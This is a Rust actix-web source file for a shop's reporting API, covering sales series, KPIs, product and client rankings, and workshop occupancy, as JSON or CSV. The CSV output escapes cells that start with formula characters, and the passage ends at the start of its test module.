//! `/api/v1/reports`: figures over a period of UTC days, as JSON or, asked with
//! `Accept: text/csv`, as CSV (one row per item of the series).

use crate::app::reports::KpiReport;
use crate::app::{reports, AppError, AppState};
use crate::domain::access::Family;
use crate::domain::money::Money;
use crate::domain::reports::{
    Breakdown, CategorySales, Granularity, ProductSales, SalesBucket, WorkshopGroup, WorkshopStanding,
};
use crate::domain::time::Day;
use crate::http::access::Caller;
use crate::http::dto::Withheld;
use crate::http::extract::Query;
use crate::http::problem::{ApiError, ApiResult};
use actix_web::http::header;
use actix_web::{get, web, HttpRequest, HttpResponse, ResponseError};
use chrono::NaiveDate;
use serde::{Deserialize, Serialize};
use utoipa::{IntoParams, ToSchema};
use validator::Validate;

/// A period of whole UTC days; the last 30 days (today included) when neither is given.
#[derive(Debug, Clone, Default, Deserialize, IntoParams, Validate)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct SalesQuery {
    /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
    #[param(value_type = Option<NaiveDate>)]
    pub from: Option<Day>,
    /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
    #[param(value_type = Option<NaiveDate>)]
    pub to: Option<Day>,
    /// `day` (default), `week` (ISO weeks, Monday to Sunday) or `month`.
    #[param(inline)]
    pub granularity: Option<Granularity>,
}

/// Sales of one item of the series (or of the whole period).
#[derive(Debug, Serialize, ToSchema)]
pub struct SalesFigures {
    /// First day of the item (the period's `from` for a first week or month that began earlier).
    pub start: NaiveDate,
    /// Last day of the item (clipped to the period's `to`).
    pub end: NaiveDate,
    /// `gross` less `refunds`.
    pub revenue: Money,
    /// Totals of the orders placed in these days and not cancelled.
    pub gross: Money,
    /// Succeeded refunds of order payments, on the day each completed.
    pub refunds: Money,
    /// Orders placed in these days and not cancelled.
    pub orders: i64,
    /// Units in those orders.
    pub items: i64,
    /// Average order value: `revenue / orders`, to the cent (half away from zero); `0.00`
    /// without orders.
    pub aov: Money,
}

impl From<&SalesBucket> for SalesFigures {
    fn from(b: &SalesBucket) -> Self {
        SalesFigures {
            start: b.start,
            end: b.end,
            revenue: b.revenue(),
            gross: b.gross,
            refunds: b.refunds,
            orders: b.orders,
            items: b.items,
            aov: b.average_order_value(),
        }
    }
}

#[derive(Debug, Serialize, ToSchema)]
pub struct SalesReportResponse {
    pub from: NaiveDate,
    pub to: NaiveDate,
    pub granularity: Granularity,
    /// The whole period.
    pub totals: SalesFigures,
    /// One item per day, week or month of the period, in order; items without sales are
    /// present with zeros.
    pub items: Vec<SalesFigures>,
}

/// Whether the caller asked for CSV: `text/csv` is acceptable and JSON is not preferred to it.
fn wants_csv(req: &HttpRequest) -> bool {
    let Some(accept) = req.headers().get(header::ACCEPT).and_then(|v| v.to_str().ok()) else {
        return false;
    };
    let quality = |wanted: &str| {
        accept
            .split(',')
            .filter_map(|item| {
                let mut parts = item.split(';').map(str::trim);
                let media = parts.next()?.to_ascii_lowercase();
                let q = parts.find_map(|p| p.strip_prefix("q=").and_then(|q| q.parse::<f32>().ok())).unwrap_or(1.0);
                (media == wanted).then_some(q)
            })
            .fold(None, |best: Option<f32>, q| Some(best.map_or(q, |b| b.max(q))))
    };
    match (quality("text/csv"), quality("application/json")) {
        (Some(csv), Some(json)) => csv > 0.0 && csv >= json,
        (Some(csv), None) => csv > 0.0,
        _ => false,
    }
}

/// A CSV document (RFC 4180, written by the `csv` crate: CRLF line ends, a header row, fields
/// quoted when they must be). Text a spreadsheet would run as a formula (OWASP's rule: a cell
/// starting with `=`, `+`, `-`, `@`, TAB or CR) gets a leading `'`; numbers such as `-12.50` stay
/// numbers.
fn csv_response(header_row: &[&str], rows: impl Iterator<Item = Vec<String>>) -> HttpResponse {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    let written = writer.write_record(header_row).and_then(|()| {
        rows.into_iter().try_for_each(|row| writer.write_record(row.iter().map(|cell| inert(cell).into_owned())))
    });
    match (written, writer.into_inner()) {
        (Ok(()), Ok(body)) => HttpResponse::Ok().content_type("text/csv; charset=utf-8").body(body),
        _ => ApiError::from(AppError::Internal(anyhow::anyhow!("a CSV report could not be written"))).error_response(),
    }
}

/// The cell as text a spreadsheet shows rather than evaluates.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let number = cell.parse::<rust_decimal::Decimal>().is_ok();
    if !number && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Sales over time
///
/// Revenue, orders, units and average order value per day, ISO week or month of a period of
/// UTC days, zero-filled, with the period's totals. Orders count on the day they were placed
/// (cancelled ones never); refunds on the day they completed, so `revenue` can be negative on a
/// day whose refunds outweigh its sales. Exact at every moment: whole past days come from the
/// daily rollups unless something changed since, every other day from the orders themselves.
/// `Accept: text/csv` gives the series as CSV (`start,end,revenue,gross,refunds,orders,items,aov`).
#[utoipa::path(
    security(("api_key" = ["reports:read"])),
    tag = "reports",
    params(SalesQuery),
    responses((status = 200, description = "The sales series", content(
        (SalesReportResponse = "application/json"),
        (String = "text/csv", example = "start,end,revenue,gross,refunds,orders,items,aov\r\n2026-11-01,2026-11-01,120.00,130.00,10.00,3,5,40.00\r\n")
    )))
)]
#[get("/reports/sales")]
pub async fn sales_report(
    _caller: Caller,
    state: web::Data<AppState>,
    req: HttpRequest,
    query: Query<SalesQuery>,
) -> ApiResult<HttpResponse> {
    let query = query.0;
    let period = reports::period(query.from.map(Day::get), query.to.map(Day::get))?;
    let granularity = query.granularity.unwrap_or(Granularity::Day);
    let report = reports::sales(&state, period, granularity).await?;
    let items: Vec<SalesFigures> = report.buckets.iter().map(SalesFigures::from).collect();
    if wants_csv(&req) {
        let rows = items.iter().map(|f| {
            vec![
                f.start.to_string(),
                f.end.to_string(),
                f.revenue.to_string(),
                f.gross.to_string(),
                f.refunds.to_string(),
                f.orders.to_string(),
                f.items.to_string(),
                f.aov.to_string(),
            ]
        });
        return Ok(csv_response(&["start", "end", "revenue", "gross", "refunds", "orders", "items", "aov"], rows));
    }
    Ok(HttpResponse::Ok().json(SalesReportResponse {
        from: report.period.from,
        to: report.period.to,
        granularity: report.granularity,
        totals: SalesFigures::from(&report.totals),
        items,
    }))
}

/// The period of a report without a series.
#[derive(Debug, Clone, Default, Deserialize, IntoParams, Validate)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct PeriodQuery {
    /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
    #[param(value_type = Option<NaiveDate>)]
    pub from: Option<Day>,
    /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
    #[param(value_type = Option<NaiveDate>)]
    pub to: Option<Day>,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct BreakdownFigures {
    /// The plan or the kind.
    pub key: String,
    pub orders: i64,
    /// Order totals less refunds.
    pub revenue: Money,
}

impl From<Breakdown> for BreakdownFigures {
    fn from(b: Breakdown) -> Self {
        BreakdownFigures { key: b.key, orders: b.orders, revenue: b.revenue }
    }
}

#[derive(Debug, Serialize, ToSchema)]
pub struct PaymentMethodFigures {
    #[schema(example = "card")]
    pub method: String,
    /// Succeeded payments (orders, enrollments, subscriptions), refunded later or not.
    pub payments: i64,
    pub amount: Money,
    /// Of the period's amount paid, in percent (two decimals).
    #[schema(example = 62.5)]
    pub share_percent: Option<f64>,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct StockFigures {
    /// Active products with stock at or below their reorder point.
    pub critical: i64,
    /// Above it, and at most 1.5 × it.
    pub low: i64,
    pub optimal: i64,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct DebtorFigures {
    /// Clients with an enrollment not cancelled and not paid in full.
    pub clients: i64,
    pub enrollments: i64,
    /// What those enrollments still owe.
    pub amount_owed: Money,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct InfoCoverageFigures {
    /// Clients with their MongoDB document.
    pub documents: i64,
    pub clients: i64,
    #[schema(example = 99.5)]
    pub percent: f64,
    /// When the client statistics snapshot these come from was computed (`STATS_REFRESH_SECS`).
    pub computed_at: chrono::DateTime<chrono::Utc>,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct KpiResponse {
    pub from: NaiveDate,
    pub to: NaiveDate,
    /// Order totals (not cancelled) less refunds of order payments, in the period.
    pub revenue: Money,
    pub gross: Money,
    pub refunds: Money,
    /// Orders placed in the period and not cancelled.
    pub orders: i64,
    pub items: i64,
    /// `revenue / orders`, to the cent.
    pub aov: Money,
    /// Revenue of the period of the same length just before.
    pub previous_revenue: Money,
    /// Revenue change against the previous period, in percent (two decimals); `null` when the
    /// previous period had none.
    #[schema(example = 12.5)]
    pub growth_percent: Option<f64>,
    /// Clients created in the period.
    pub new_clients: i64,
    /// Clients with an order (not cancelled) in the period.
    pub active_clients: i64,
    /// Of the active clients, those with two or more orders in the period, in percent; `null`
    /// without active clients.
    #[schema(example = 31.25)]
    pub repeat_purchase_rate_percent: Option<f64>,
    /// Customer lifetime value: revenue to date (up to `to`) per paying client to date.
    pub clv: Money,
    pub revenue_to_date: Money,
    /// Clients with an order not cancelled placed up to `to`.
    pub paying_clients_to_date: i64,
    /// By the client's plan when each order was placed.
    pub revenue_by_plan: Vec<BreakdownFigures>,
    /// By the client's kind when each order was placed.
    pub revenue_by_client_kind: Vec<BreakdownFigures>,
    pub payment_methods: Vec<PaymentMethodFigures>,
    /// Now, not for the period.
    pub stock_status: StockFigures,
    /// Now, not for the period.
    pub debtors: DebtorFigures,
    /// From the client statistics snapshot; `null` when MongoDB did not answer for it.
    pub info_coverage: Option<InfoCoverageFigures>,
}

fn number(percent: Option<rust_decimal::Decimal>) -> Option<f64> {
    use rust_decimal::prelude::ToPrimitive;
    percent.and_then(|p| p.to_f64())
}

impl From<KpiReport> for KpiResponse {
    fn from(report: KpiReport) -> Self {
        let k = report.kpis;
        KpiResponse {
            from: k.period.from,
            to: k.period.to,
            revenue: k.sales.revenue(),
            gross: k.sales.gross,
            refunds: k.sales.refunds,
            orders: k.sales.orders,
            items: k.sales.items,
            aov: k.sales.average_order_value(),
            previous_revenue: k.previous_revenue,
            growth_percent: number(k.growth_percent),
            new_clients: k.new_clients,
            active_clients: k.buyers.active,
            repeat_purchase_rate_percent: number(k.repeat_purchase_rate_percent),
            clv: k.clv,
            revenue_to_date: k.revenue_to_date,
            paying_clients_to_date: k.paying_clients_to_date,
            revenue_by_plan: report.by_plan.into_iter().map(Into::into).collect(),
            revenue_by_client_kind: report.by_kind.into_iter().map(Into::into).collect(),
            payment_methods: report
                .payment_methods
                .into_iter()
                .map(|m| PaymentMethodFigures {
                    method: m.figures.method,
                    payments: m.figures.payments,
                    amount: m.figures.amount,
                    share_percent: number(m.share_percent),
                })
                .collect(),
            stock_status: StockFigures {
                critical: report.stock.critical,
                low: report.stock.low,
                optimal: report.stock.optimal,
            },
            debtors: DebtorFigures {
                clients: report.debts.clients,
                enrollments: report.debts.enrollments,
                amount_owed: report.debts.owed,
            },
            info_coverage: report.info_coverage.map(|i| InfoCoverageFigures {
                documents: i.documents,
                clients: i.clients,
                percent: i.percent,
                computed_at: i.computed_at,
            }),
        }
    }
}

/// Key figures
///
/// Revenue, orders, AOV and growth against the previous period of the same length; new and
/// active clients, repeat-purchase rate, CLV (revenue to date per paying client to date);
/// revenue by plan and by client kind (as they were when each order was placed); payment methods;
/// and, as they stand now, stock status counts, workshop debtors and MongoDB info coverage. Days
/// are UTC days; the figures are exact when read (see `/reports/sales`). `Accept: text/csv`
/// gives one `name,value` row per figure.
#[utoipa::path(
    security(("api_key" = ["reports:read"])),
    tag = "reports",
    params(PeriodQuery),
    responses((status = 200, description = "The key figures", content(
        (KpiResponse = "application/json"),
        (String = "text/csv", example = "name,value\r\nrevenue,1520.00\r\norders,38\r\n")
    )))
)]
#[get("/reports/kpis")]
pub async fn kpi_report(
    _caller: Caller,
    state: web::Data<AppState>,
    req: HttpRequest,
    query: Query<PeriodQuery>,
) -> ApiResult<HttpResponse> {
    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
    let report = KpiResponse::from(reports::kpis(&state, period).await?);
    if wants_csv(&req) {
        let flat = flatten(&serde_json::to_value(&report).map_err(|e| AppError::Internal(e.into()))?);
        return Ok(csv_response(&["name", "value"], flat.into_iter().map(|(name, value)| vec![name, value])));
    }
    Ok(HttpResponse::Ok().json(report))
}

/// `{"a": {"b": 1}, "c": [{"key": "x", "v": 2}]}` → `a.b,1` and `c.x.v,2`: a JSON report as
/// `name,value` rows (list items named by their `key` or `method`, else their position).
fn flatten(value: &serde_json::Value) -> Vec<(String, String)> {
    fn walk(prefix: &str, value: &serde_json::Value, out: &mut Vec<(String, String)>) {
        let join = |name: &str| if prefix.is_empty() { name.to_string() } else { format!("{prefix}.{name}") };
        match value {
            serde_json::Value::Object(map) => {
                for (name, child) in map {
                    walk(&join(name), child, out);
                }
            }
            serde_json::Value::Array(items) => {
                for (i, item) in items.iter().enumerate() {
                    let name = ["key", "method"]
                        .iter()
                        .find_map(|k| item.get(*k).and_then(|v| v.as_str()).map(str::to_string))
                        .unwrap_or_else(|| i.to_string());
                    let mut item = item.clone();
                    if let Some(map) = item.as_object_mut() {
                        map.remove("key");
                        map.remove("method");
                    }
                    walk(&join(&name), &item, out);
                }
            }
            serde_json::Value::Null => out.push((prefix.to_string(), String::new())),
            serde_json::Value::String(text) => out.push((prefix.to_string(), text.clone())),
            other => out.push((prefix.to_string(), other.to_string())),
        }
    }
    let mut out = Vec::new();
    walk("", value, &mut out);
    out
}

/// A period and how many entries each ranking lists.
#[derive(Debug, Clone, Default, Deserialize, IntoParams, Validate)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct RankingQuery {
    /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
    #[param(value_type = Option<NaiveDate>)]
    pub from: Option<Day>,
    /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
    #[param(value_type = Option<NaiveDate>)]
    pub to: Option<Day>,
    /// Entries per ranking, 1 to 100 (default 10).
    #[param(minimum = 1, maximum = 100)]
    #[validate(range(min = 1, max = 100))]
    pub limit: Option<i64>,
}

/// Entries a ranking lists: `limit` (validated 1 to 100), 10 when not given.
fn ranking_limit(limit: Option<i64>) -> usize {
    limit.unwrap_or(10).clamp(1, 100) as usize
}

#[derive(Debug, Serialize, ToSchema)]
pub struct ProductFigures {
    pub product_id: crate::domain::ids::ProductId,
    /// The product's name now.
    pub name: String,
    pub category_id: Option<crate::domain::ids::CategoryId>,
    pub category: Option<String>,
    /// Units in orders not cancelled.
    pub units: i64,
    /// Line totals at the prices sold, before order-level coupon discounts.
    pub revenue: Money,
}

impl From<ProductSales> for ProductFigures {
    fn from(p: ProductSales) -> Self {
        ProductFigures {
            product_id: p.product_id,
            name: p.name,
            category_id: p.category_id,
            category: p.category,
            units: p.units,
            revenue: p.revenue,
        }
    }
}

#[derive(Debug, Serialize, ToSchema)]
pub struct CategoryFigures {
    /// `null` for the products without a category.
    pub category_id: Option<crate::domain::ids::CategoryId>,
    pub name: Option<String>,
    pub units: i64,
    pub revenue: Money,
}

impl From<CategorySales> for CategoryFigures {
    fn from(c: CategorySales) -> Self {
        CategoryFigures { category_id: c.category_id, name: c.name, units: c.units, revenue: c.revenue }
    }
}

#[derive(Debug, Serialize, ToSchema)]
pub struct SlowMoverFigures {
    pub product_id: crate::domain::ids::ProductId,
    pub name: String,
    /// Units on hand now.
    pub stock: i32,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct ProductReportResponse {
    pub from: NaiveDate,
    pub to: NaiveDate,
    pub top_by_units: Vec<ProductFigures>,
    pub top_by_revenue: Vec<ProductFigures>,
    pub categories_by_units: Vec<CategoryFigures>,
    pub categories_by_revenue: Vec<CategoryFigures>,
    /// Active products with stock on hand and no unit sold in the period, most stock first.
    pub slow_movers: Vec<SlowMoverFigures>,
}

/// Products and categories
///
/// Top products and top categories by units and by revenue (line totals at the prices sold,
/// before order-level coupon discounts; orders not cancelled), `limit` of each, and slow movers:
/// active products with stock on hand and nothing sold in the period. Names and categories are
/// the products' current ones. `Accept: text/csv` lists every product sold in the period, by
/// revenue (`product_id,name,category,units,revenue`).
#[utoipa::path(
    security(("api_key" = ["reports:read"])),
    tag = "reports",
    params(RankingQuery),
    responses((status = 200, description = "What sold and what did not", content(
        (ProductReportResponse = "application/json"),
        (String = "text/csv", example = "product_id,name,category,units,revenue\r\n0192f0c4-5f1e-7a8b-9c0d-1e2f3a4b5c6d,Dovetail kit,Kits,12,298.80\r\n")
    )))
)]
#[get("/reports/products")]
pub async fn product_report(
    _caller: Caller,
    state: web::Data<AppState>,
    req: HttpRequest,
    query: Query<RankingQuery>,
) -> ApiResult<HttpResponse> {
    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
    let limit = ranking_limit(query.0.limit);
    let report = reports::products(&state, period, limit).await?;
    if wants_csv(&req) {
        let rows = report.sold.into_iter().map(|p| {
            vec![
                p.product_id.0.to_string(),
                p.name,
                p.category.unwrap_or_default(),
                p.units.to_string(),
                p.revenue.to_string(),
            ]
        });
        return Ok(csv_response(&["product_id", "name", "category", "units", "revenue"], rows));
    }
    let products = |list: Vec<ProductSales>| list.into_iter().map(ProductFigures::from).collect();
    let categories = |list: Vec<CategorySales>| list.into_iter().map(CategoryFigures::from).collect();
    Ok(HttpResponse::Ok().json(ProductReportResponse {
        from: report.period.from,
        to: report.period.to,
        top_by_units: products(report.top_by_units),
        top_by_revenue: products(report.top_by_revenue),
        categories_by_units: categories(report.categories_by_units),
        categories_by_revenue: categories(report.categories_by_revenue),
        slow_movers: report
            .slow_movers
            .into_iter()
            .map(|s| SlowMoverFigures { product_id: s.product_id, name: s.name, stock: s.stock })
            .collect(),
    }))
}

#[derive(Debug, Serialize, ToSchema)]
pub struct TopClientFigures {
    pub client_id: crate::domain::ids::ClientId,
    /// `null` (with `email`) for a key without `clients:read` (`withheld` says so).
    pub name: Option<String>,
    pub email: Option<String>,
    #[schema(example = "b2c")]
    pub kind: String,
    #[schema(example = "premium")]
    pub plan: String,
    /// Orders placed in the period and not cancelled.
    pub orders: i64,
    /// Their totals.
    pub spend: Money,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct CohortFigures {
    /// The month of the cohort's first orders (`YYYY-MM`).
    #[schema(example = "2026-09")]
    pub month: String,
    /// Clients whose first order not cancelled was placed that month.
    pub clients: i64,
    /// How many of them ordered in the cohort's month (`[0]`, all of them), one month later
    /// (`[1]`) and so on, up to the period's last month.
    pub active: Vec<i64>,
    /// `active` as a percentage of `clients` (two decimals; `null` for an empty cohort).
    pub retention_percent: Vec<Option<f64>>,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct ClientReportResponse {
    pub from: NaiveDate,
    pub to: NaiveDate,
    pub top_clients: Vec<TopClientFigures>,
    /// One per month of the period, oldest first.
    pub cohorts: Vec<CohortFigures>,
    /// The parts of other families this key cannot read, left out (empty when none).
    pub withheld: Vec<Withheld>,
}

/// Clients: top spenders and cohorts
///
/// The clients who spent most in the period (order totals, orders not cancelled; `limit`), and
/// retention cohorts: for each month of the period, the clients whose first order was placed that
/// month and how many of them ordered again in each later month up to the period's end. Names,
/// kinds and plans are the clients' current ones. `Accept: text/csv` lists the top clients
/// (`client_id,name,email,kind,plan,orders,spend`). Names and emails need `clients:read` too:
/// without it they are `null` (empty in CSV) and `withheld` names them.
#[utoipa::path(
    security(("api_key" = ["reports:read"])),
    tag = "reports",
    params(RankingQuery),
    responses((status = 200, description = "Top clients and cohorts", content(
        (ClientReportResponse = "application/json"),
        (String = "text/csv", example = "client_id,name,email,kind,plan,orders,spend\r\n0192f0c4-5f1e-7a8b-9c0d-1e2f3a4b5c6d,Ada Lovelace,ada@example.com,b2c,premium,4,310.50\r\n")
    )))
)]
#[get("/reports/clients")]
pub async fn client_report(
    caller: Caller,
    state: web::Data<AppState>,
    req: HttpRequest,
    query: Query<RankingQuery>,
) -> ApiResult<HttpResponse> {
    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
    let limit = ranking_limit(query.0.limit);
    let report = reports::clients(&state, period, limit).await?;
    let mut disclosure = caller.disclosure();
    let names = disclosure.shows(Family::Clients, &["top_clients.name", "top_clients.email"]);
    let top_clients: Vec<TopClientFigures> = report
        .top_clients
        .into_iter()
        .map(|(client, spend)| TopClientFigures {
            client_id: client.client_id,
            name: names.then_some(client.name),
            email: names.then_some(client.email),
            kind: client.kind,
            plan: client.plan,
            orders: spend.orders,
            spend: Money::from_cents(spend.spend_cents),
        })
        .collect();
    if wants_csv(&req) {
        let rows = top_clients.into_iter().map(|c| {
            let (name, email) = (c.name.unwrap_or_default(), c.email.unwrap_or_default());
            vec![c.client_id.0.to_string(), name, email, c.kind, c.plan, c.orders.to_string(), c.spend.to_string()]
        });
        return Ok(csv_response(&["client_id", "name", "email", "kind", "plan", "orders", "spend"], rows));
    }
    let cohorts = report
        .cohorts
        .into_iter()
        .map(|c| CohortFigures {
            month: c.month.format("%Y-%m").to_string(),
            retention_percent: c.active.iter().map(|n| number(percent_of(*n, c.clients))).collect(),
            clients: c.clients,
            active: c.active,
        })
        .collect();
    Ok(HttpResponse::Ok().json(ClientReportResponse {
        from: report.period.from,
        to: report.period.to,
        top_clients,
        cohorts,
        withheld: disclosure.withheld,
    }))
}

/// A period and the cut of the workshop income series.
#[derive(Debug, Clone, Default, Deserialize, IntoParams, Validate)]
#[serde(deny_unknown_fields)]
#[into_params(parameter_in = Query)]
pub struct WorkshopQuery {
    /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
    #[param(value_type = Option<NaiveDate>)]
    pub from: Option<Day>,
    /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
    #[param(value_type = Option<NaiveDate>)]
    pub to: Option<Day>,
    /// The income series by `day`, `week` (ISO) or `month` (default).
    #[param(inline)]
    pub granularity: Option<Granularity>,
    /// Debtors listed, 1 to 100 (default 10).
    #[param(minimum = 1, maximum = 100)]
    #[validate(range(min = 1, max = 100))]
    pub limit: Option<i64>,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct DebtorEntry {
    pub client_id: crate::domain::ids::ClientId,
    /// `null` (with `email`) for a key without `clients:read` (`withheld` says so).
    pub name: Option<String>,
    pub email: Option<String>,
    /// Enrollments not cancelled and not paid in full.
    pub enrollments: i64,
    pub owed: Money,
}

/// A workshop held in the period, as it stands now.
#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopStandingFigures {
    pub workshop_id: crate::domain::ids::WorkshopId,
    pub name: String,
    pub category_id: crate::domain::ids::InterestId,
    pub category: String,
    #[schema(example = "in_person")]
    pub modality: String,
    pub starts_at: chrono::DateTime<chrono::Utc>,
    pub active: bool,
    pub capacity: i64,
    /// Enrollments not cancelled (each holds a seat).
    pub seats_taken: i64,
    /// `seats_taken / capacity` in percent (two decimals).
    #[schema(example = 75.0)]
    pub occupancy_percent: Option<f64>,
    /// What those enrollments have paid.
    pub paid: Money,
    /// What they still owe (price less paid).
    pub owed: Money,
    /// Every payment for the workshop's enrollments (cancelled ones too), less succeeded refunds.
    pub income: Money,
}

impl From<&WorkshopStanding> for WorkshopStandingFigures {
    fn from(w: &WorkshopStanding) -> Self {
        WorkshopStandingFigures {
            workshop_id: w.workshop_id,
            name: w.name.clone(),
            category_id: w.category_id,
            category: w.category.clone(),
            modality: w.modality.clone(),
            starts_at: w.starts_at,
            active: w.active,
            capacity: w.capacity,
            seats_taken: w.seats_taken,
            occupancy_percent: number(percent_of(w.seats_taken, w.capacity)),
            paid: w.paid,
            owed: w.owed(),
            income: w.income,
        }
    }
}

/// Workshops of a group (or all of them).
#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopGroupFigures {
    /// Workshops held (starting) in the period.
    pub workshops: i64,
    /// Their seats, seats taken now, and what their enrollments still owe.
    pub capacity: i64,
    pub seats_taken: i64,
    #[schema(example = 62.5)]
    pub occupancy_percent: Option<f64>,
    pub owed: Money,
    /// Enrollments made in the period and not cancelled, for workshops held at any time.
    pub enrollments: i64,
    /// Succeeded enrollment payments completed in the period.
    pub received: Money,
    /// Succeeded refunds of enrollment payments completed in the period.
    pub refunded: Money,
    /// `received` less `refunded`.
    pub income: Money,
}

impl From<&WorkshopGroup> for WorkshopGroupFigures {
    fn from(g: &WorkshopGroup) -> Self {
        WorkshopGroupFigures {
            workshops: g.held,
            capacity: g.capacity,
            seats_taken: g.seats_taken,
            occupancy_percent: number(g.occupancy_percent()),
            owed: g.owed,
            enrollments: g.enrollments,
            received: g.received,
            refunded: g.refunded,
            income: g.income(),
        }
    }
}

#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopModalityFigures {
    #[schema(example = "online")]
    pub modality: String,
    #[serde(flatten)]
    pub figures: WorkshopGroupFigures,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopCategoryFigures {
    pub category_id: Option<crate::domain::ids::InterestId>,
    /// The category's (interest's) name now.
    pub category: String,
    #[serde(flatten)]
    pub figures: WorkshopGroupFigures,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopIncomeFigures {
    pub start: NaiveDate,
    pub end: NaiveDate,
    pub enrollments: i64,
    pub received: Money,
    pub refunded: Money,
    pub income: Money,
}

#[derive(Debug, Serialize, ToSchema)]
pub struct WorkshopReportResponse {
    pub from: NaiveDate,
    pub to: NaiveDate,
    pub granularity: Granularity,
    pub totals: WorkshopGroupFigures,
    /// The workshops held (starting) in the period, by start.
    pub workshops: Vec<WorkshopStandingFigures>,
    pub by_modality: Vec<WorkshopModalityFigures>,
    pub by_category: Vec<WorkshopCategoryFigures>,
    /// Workshop income per day, week or month of the period, zero-filled.
    pub items: Vec<WorkshopIncomeFigures>,
    /// The clients owing most for enrollments now (`limit`), most first.
    pub debtors: Vec<DebtorEntry>,
    /// The parts of other families this key cannot read, left out (empty when none).
    pub withheld: Vec<Withheld>,
}

/// Workshops: occupancy, money owed, income
///
/// Every workshop held (starting on a day of the period) with its capacity, seats taken and
/// occupancy, what its enrollments paid and still owe, and its income (payments less refunds) —
/// as they stand now; the same by modality and by category, with the enrollments made and the
/// money received and refunded on the period's days; and the income series by `granularity`
/// (default `month`), on the days the money moved; and the clients owing most now (`limit`).
/// `Accept: text/csv` lists the workshops held
/// (`workshop_id,name,category,modality,starts_at,capacity,seats_taken,occupancy_percent,paid,owed,income`).
#[utoipa::path(
    security(("api_key" = ["reports:read"])),
    tag = "reports",
    params(WorkshopQuery),
    responses((status = 200, description = "Workshop occupancy and income", content(
        (WorkshopReportResponse = "application/json"),
        (String = "text/csv", example = "workshop_id,name,category,modality,starts_at,capacity,seats_taken,occupancy_percent,paid,owed,income\r\n0192f0c4-5f1e-7a8b-9c0d-1e2f3a4b5c6d,Dovetail joints,Woodworking,in_person,2026-11-14T10:00:00Z,12,9,75,360.00,90.00,360.00\r\n")
    )))
)]
#[get("/reports/workshops")]
pub async fn workshop_report(
    caller: Caller,
    state: web::Data<AppState>,
    req: HttpRequest,
    query: Query<WorkshopQuery>,
) -> ApiResult<HttpResponse> {
    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
    let granularity = query.0.granularity.unwrap_or(Granularity::Month);
    let limit = ranking_limit(query.0.limit);
    let report = reports::workshops(&state, period, granularity, limit).await?;
    let mut disclosure = caller.disclosure();
    let names = disclosure.shows(Family::Clients, &["debtors.name", "debtors.email"]);
    let workshops: Vec<WorkshopStandingFigures> = report.workshops.iter().map(Into::into).collect();
    if wants_csv(&req) {
        let rows = workshops.into_iter().map(|w| {
            vec![
                w.workshop_id.0.to_string(),
                w.name,
                w.category,
                w.modality,
                w.starts_at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                w.capacity.to_string(),
                w.seats_taken.to_string(),
                w.occupancy_percent.map(|p| p.to_string()).unwrap_or_default(),
                w.paid.to_string(),
                w.owed.to_string(),
                w.income.to_string(),
            ]
        });
        let header_row = [
            "workshop_id",
            "name",
            "category",
            "modality",
            "starts_at",
            "capacity",
            "seats_taken",
            "occupancy_percent",
            "paid",
            "owed",
            "income",
        ];
        return Ok(csv_response(&header_row, rows));
    }
    Ok(HttpResponse::Ok().json(WorkshopReportResponse {
        from: report.period.from,
        to: report.period.to,
        granularity: report.granularity,
        totals: WorkshopGroupFigures::from(&report.totals),
        workshops,
        by_modality: report
            .by_modality
            .iter()
            .map(|g| WorkshopModalityFigures { modality: g.key.clone(), figures: g.into() })
            .collect(),
        by_category: report
            .by_category
            .iter()
            .map(|g| WorkshopCategoryFigures { category_id: g.category_id, category: g.key.clone(), figures: g.into() })
            .collect(),
        items: report
            .income
            .iter()
            .map(|b| WorkshopIncomeFigures {
                start: b.start,
                end: b.end,
                enrollments: b.enrollments,
                received: b.received,
                refunded: b.refunded,
                income: b.income(),
            })
            .collect(),
        debtors: report
            .debtors
            .into_iter()
            .map(|d| DebtorEntry {
                client_id: d.client_id,
                name: names.then_some(d.name),
                email: names.then_some(d.email),
                enrollments: d.enrollments,
                owed: d.owed,
            })
            .collect(),
        withheld: disclosure.withheld,
    }))
}

/// `part / whole` in percent, for counts.
fn percent_of(part: i64, whole: i64) -> Option<rust_decimal::Decimal> {
    crate::domain::reports::percent(rust_decimal::Decimal::from(part), rust_decimal::Decimal::from(whole))
}

#[cfg(test)]
mod tests {
    use super::*;
    use actix_web::body::MessageBody;
    use actix_web::test::TestRequest;

    #[test]
    fn csv_is_chosen_only_when_preferred_to_json() {
        let asking =
            |accept: &str| wants_csv(&TestRequest::get().insert_header((header::ACCEPT, accept)).to_http_request());
